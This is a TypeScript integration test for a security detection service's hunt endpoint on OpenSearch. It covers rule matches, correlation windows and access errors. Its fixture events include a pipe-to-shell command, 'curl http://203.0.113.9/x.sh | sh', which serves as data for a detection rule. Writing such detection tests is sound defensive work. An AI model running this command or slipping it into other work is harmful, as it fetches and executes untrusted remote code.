// POST /detection/v1/hunts on the real OpenSearch: a rule returns the events it matches in the
// range, a correlation the windows in which it holds, through the same PEP as every route.
import { indexNames } from '@halong/core';
import type { OpenSearchClient } from '@halong/core/node';
import { createLogger, createOpenSearchClient, createPep, createServer, putIndexTemplates } from '@halong/core/node';
import { testConfig } from '@halong/infra';
import { detectionRoutes } from '../../src/http';
import { LiveMatcher, RuleStates, createDetectionService } from '../../src/runtime';
import { CORRELATION_ID, MemoryControl, RULE_ID, T0, processEvent, ruleSetOf, standardFiles } from '../runtime/support';

describe('POST /detection/v1/hunts against the real OpenSearch', () => {
  const config = testConfig();
  const names = indexNames(config.indexPrefix);
  let client: OpenSearchClient;

  beforeAll(async () => {
    client = createOpenSearchClient(config);
    await putIndexTemplates(client, config.indexPrefix, 0);
    // Three pipe-to-shell starts on web-01 within a minute, one on web-02, one harmless command.
    const events = [
      processEvent('h1', T0),
      processEvent('h2', T0 + 20_000),
      processEvent('h3', T0 + 40_000),
      processEvent('h4', T0 + 50_000, { host: 'web-02' }),
      processEvent('quiet', T0 + 60_000, { cmd: 'ls -la' }),
    ];
    const body = events.flatMap((e) => [{ create: { _index: names.events('linux.auditd', new Date(T0)), _id: (e.event as { id: string }).id } }, e]);
    expect((await client.bulk({ body, refresh: 'true' })).body.errors).toBe(false);
  });

  afterAll(async () => {
    await client?.indices.delete({ index: `${config.indexPrefix}-*` }).catch(() => undefined);
    await client?.close();
  });

  async function server() {
    const authorize = createPep({
      authorizer: { evaluate: async (r) => ({ decision: r.action.name === 'search' && r.subject.id === 'analyst-1' }) },
      verifyBearer: async (token) => ({ ok: true, principal: { type: 'user', id: `${token}-1`, properties: { roles: [token] } } }),
    });
    const set = await ruleSetOf(standardFiles());
    const states = new RuleStates(new MemoryControl(), () => new Date(T0));
    const parts = { loaded: { ruleSet: set, ruleDirs: ['/rules'], pipelinePaths: ['/p'], parseMs: 1, compileMs: 1, loadedAt: new Date(T0).toISOString() }, matcher: new LiveMatcher(set, states), states };
    const service = createDetectionService({ status: () => ({ state: 'ready', since: '' }), parts: () => parts, history: { client, indexPattern: names.eventsPattern }, now: () => T0 + 3_600_000 });
    const app = createServer({ service: 'test', version: '0', logger: createLogger('test', 'silent'), authorize });
    await app.register(detectionRoutes, { service });
    return app;
  }

  const hunt = async (body: Record<string, unknown>, role = 'analyst') => {
    const app = await server();
    return app.inject({ method: 'POST', url: '/detection/v1/hunts', headers: { authorization: `Bearer ${role}` }, payload: body });
  };

  it('returns the events a rule matches in the range, oldest first, with their context', async () => {
    const res = await hunt({ rule: RULE_ID, since: '2h' });
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body.rule).toEqual({ key: RULE_ID, kind: 'rule', title: 'Download piped to a shell' });
    expect(body.events.map((e: { id: string }) => e.id)).toEqual(['h1', 'h2', 'h3', 'h4']);
    expect(body.events[3].source).toMatchObject({ host: { name: 'web-02' }, user: { name: 'alice' }, process: { command_line: 'curl http://203.0.113.9/x.sh | sh' } });
    expect(body.truncated).toBe(false);
    const two = (await hunt({ rule: RULE_ID, since: '2h', limit: 2 })).json();
    expect(two.events).toHaveLength(2);
    expect(two.truncated).toBe(true);
    const before = (await hunt({ rule: RULE_ID, since: new Date(T0 - 86_400_000).toISOString(), until: new Date(T0 + 30_000).toISOString() })).json();
    expect(before.events.map((e: { id: string }) => e.id)).toEqual(['h1', 'h2']);
  });

  it('returns the windows in which a correlation holds, by group', async () => {
    const res = await hunt({ rule: CORRELATION_ID, since: new Date(T0).toISOString(), until: new Date(T0 + 300_000).toISOString() });
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body.rule.kind).toBe('correlation');
    expect(body.windows).toEqual([{ group: { 'host.name': 'web-01' }, windowStart: new Date(T0).toISOString(), windowEnd: new Date(T0 + 300_000).toISOString(), value: 3, counts: { [RULE_ID]: 3 } }]);
  });

  it('answers 400 for an unreadable range, 404 for an unknown rule, 403 without the search right', async () => {
    expect((await hunt({ rule: RULE_ID, since: 'last tuesday' })).json().error.code).toBe('HALONG_DETECTION_BAD_REQUEST');
    expect((await hunt({ rule: RULE_ID, since: '2h', until: '2020-01-01T00:00:00Z' })).statusCode).toBe(400);
    expect((await hunt({ rule: RULE_ID, since: '2h', limit: 5000 })).statusCode).toBe(400);
    expect((await hunt({ rule: 'nope', since: '2h' })).statusCode).toBe(404);
    expect((await hunt({ rule: RULE_ID, since: '2h' }, 'collector')).statusCode).toBe(403);
  });
});
